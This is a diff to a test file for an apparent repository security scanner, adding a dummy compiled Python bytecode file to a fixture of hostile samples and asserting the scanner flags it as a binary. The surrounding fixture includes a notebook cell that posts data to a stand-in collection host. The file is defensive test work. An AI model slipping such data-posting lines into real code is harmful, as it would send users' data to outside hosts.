@@ -5,7 +5,9 @@ from __future__ import annotations
 
 import base64
 import bz2
+import importlib.util
 import json
+import marshal
 import os
 import textwrap
 import zlib
@@ -265,6 +267,9 @@ def hostile_result(tmp_path_factory: pytest.TempPathFactory, hostile_sources: di
                                                        "r = requests.post('https://collect.invalid', data={})\n"]}],
                       "metadata": {}, "nbformat": 4, "nbformat_minor": 5})})
     (root / "libkernel.so").write_bytes(b"\x7fELF\x02\x01\x01" + b"\x00" * 200)
+    (root / "__pycache__").mkdir()
+    (root / "__pycache__" / "helper.cpython-311.pyc").write_bytes(
+        importlib.util.MAGIC_NUMBER + b"\x00" * 12 + marshal.dumps(compile("x = 1", "helper.py", "exec")))
     return audit(str(root), Options(engines=("auditor",)))
 
 
@@ -366,6 +371,7 @@ def test_scripts_binaries_notebooks_and_readme_instructions(hostile_result):
     assert ("SCRIPT-SHELL", "run_demo.sh") in rules_by_file
     assert ("SCRIPT-SETUP", "setup.py") in rules_by_file
     assert ("SCRIPT-BINARY", "libkernel.so") in rules_by_file
+    assert ("SCRIPT-BINARY", "__pycache__/helper.cpython-311.pyc") in rules_by_file
     assert ("SCRIPT-NOTEBOOK", "demo.ipynb") in rules_by_file
     assert ("SCRIPT-NOTEBOOK-SHELL", "demo.ipynb") in rules_by_file
     notebook_call = [f for f in hostile_result.findings if f.rule == "CODE-NETWORK-CALL" and f.file == "demo.ipynb"]
